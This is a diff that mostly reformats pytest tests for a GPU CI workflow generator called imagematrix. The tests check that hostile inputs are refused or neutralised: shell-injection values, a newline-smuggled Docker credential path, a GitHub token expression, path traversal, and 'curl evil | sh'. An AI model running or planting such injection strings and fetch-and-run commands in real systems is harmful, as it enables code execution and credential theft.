@@ -36,8 +36,12 @@ def test_the_workflow_has_what_a_gpu_runner_needs(sheet_matrix):
     job = wf["jobs"]["build-test"]
     assert job["runs-on"] == ["self-hosted", "linux", "x64", "gpu"] and job["permissions"] == {"contents": "read"}
     runs = [s.get("run", "") for s in job["steps"]]
-    for want in ('imagematrix doctor "${args[@]}"', 'imagematrix build "${args[@]}"',
-                 'imagematrix test --suite smoke --require-gpu "${again[@]}" "${args[@]}"', 'imagematrix report "${args[@]}"'):
+    for want in (
+        'imagematrix doctor "${args[@]}"',
+        'imagematrix build "${args[@]}"',
+        'imagematrix test --suite smoke --require-gpu "${again[@]}" "${args[@]}"',
+        'imagematrix report "${args[@]}"',
+    ):
         assert any(want in r for r in runs), want
     assert any("GITHUB_STEP_SUMMARY" in r for r in runs)
     upload = job["steps"][-1]
@@ -57,18 +61,27 @@ def test_the_workflow_installs_the_tool_and_assumes_no_checkout_of_imagematrix(s
 
 
 def _gate(env: dict[str, str]) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-m", "imagematrix.core.cron", "plan"], capture_output=True, text=True,
-                          env={**os.environ, **env}, check=False)
+    return subprocess.run(
+        [sys.executable, "-m", "imagematrix.core.cron", "plan"],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        check=False,
+    )
 
 
 def test_the_gate_plans_one_job_per_family_from_the_dispatch_inputs(sheet_matrix):
     wf = yaml.safe_load(sheet_matrix.ci.workflow.read_text())
     schedule = wf["jobs"]["plan"]["steps"][1]["env"]["IMAGEMATRIX_SCHEDULE"]
-    done = _gate({"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "5", "CUDA": "all", "PYTHON": "all", "TARGET": "all"})
+    done = _gate(
+        {"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "5", "CUDA": "all", "PYTHON": "all", "TARGET": "all"}
+    )
     assert done.returncode == 0, done.stderr
     jobs = json.loads(done.stdout.removeprefix("jobs="))
     assert [(j["cuda"], j["python"], j["phases"], j["target"]) for j in jobs] == [
-        ("13.1.1", "3.14", "5", ""), ("12.8.1", "3.14", "5", "")]
+        ("13.1.1", "3.14", "5", ""),
+        ("12.8.1", "3.14", "5", ""),
+    ]
     done = _gate({"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "9"})
     assert done.returncode == 2 and "phase '9' is not in the matrix" in done.stderr
     done = _gate({"IMAGEMATRIX_SCHEDULE": "{not json", "FIRED": ""})
@@ -147,10 +160,23 @@ HOSTILE = {
 
 
 def _run_step(script: str, env: dict[str, str], cwd, stubs) -> int:
-    env = {**env, "PATH": str(stubs), "CALLS": str(cwd / "calls"), "GITHUB_OUTPUT": str(cwd / "out"),
-           "GITHUB_PATH": str(cwd / "path"), "GITHUB_STEP_SUMMARY": str(cwd / "summary"), "RUNNER_TEMP": str(cwd)}
-    return subprocess.run(["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=cwd, env=env,
-                          capture_output=True, text=True, check=False).returncode
+    env = {
+        **env,
+        "PATH": str(stubs),
+        "CALLS": str(cwd / "calls"),
+        "GITHUB_OUTPUT": str(cwd / "out"),
+        "GITHUB_PATH": str(cwd / "path"),
+        "GITHUB_STEP_SUMMARY": str(cwd / "summary"),
+        "RUNNER_TEMP": str(cwd),
+    }
+    return subprocess.run(
+        ["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+    ).returncode
 
 
 @pytest.mark.parametrize("phases", ["1 2", "1 `touch pwned`", "*", "1;touch pwned"])
@@ -169,8 +195,11 @@ def test_hostile_values_reach_the_tool_as_single_arguments_and_run_nothing_else(
         for step in job["steps"]:
             if "run" not in step:
                 continue
-            env = {**{k: str(v) for k, v in {**job.get("env", {}), **step.get("env", {})}.items()},
-                   **HOSTILE, "PHASES": phases}
+            env = {
+                **{k: str(v) for k, v in {**job.get("env", {}), **step.get("env", {})}.items()},
+                **HOSTILE,
+                "PHASES": phases,
+            }
             codes.append(_run_step(step["run"], env, tmp_path, stubs))
     assert not (tmp_path / "pwned").exists()
     calls = [json.loads(c) for c in (tmp_path / "calls").read_text().splitlines()]
@@ -188,14 +217,17 @@ def test_hostile_values_reach_the_tool_as_single_arguments_and_run_nothing_else(
     assert prune == [["prune", "--keep", HOSTILE["KEEP_IMAGES"], "--cache-hours", "336"]]
 
 
-@pytest.mark.parametrize(("key", "value", "needle"), [
-    ("state_dir", "/var/lib/x\n~/.docker/config.json", "absolute path of plain names"),
-    ("runs_on", ["gpu", "${{ github.token }}"], "not a runner label"),
-    ("runs_on", ["gpu\nx: 1"], "not a runner label"),
-    ("workflow", "../../../x.yml", "not a workflow file in .github/workflows/"),
-    ("gate_runs_on", "ubuntu-latest\n", "not a runner label"),
-    ("install", "imagematrix; curl evil | sh", "not a pip requirement"),
-])
+@pytest.mark.parametrize(
+    ("key", "value", "needle"),
+    [
+        ("state_dir", "/var/lib/x\n~/.docker/config.json", "absolute path of plain names"),
+        ("runs_on", ["gpu", "${{ github.token }}"], "not a runner label"),
+        ("runs_on", ["gpu\nx: 1"], "not a runner label"),
+        ("workflow", "../../../x.yml", "not a workflow file in .github/workflows/"),
+        ("gate_runs_on", "ubuntu-latest\n", "not a runner label"),
+        ("install", "imagematrix; curl evil | sh", "not a pip requirement"),
+    ],
+)
 def test_ci_settings_are_refused_at_load(tmp_path, repo_root, key, value, needle):
     from imagematrix.core.errors import MatrixError
     from imagematrix.matrix.load import load_matrix
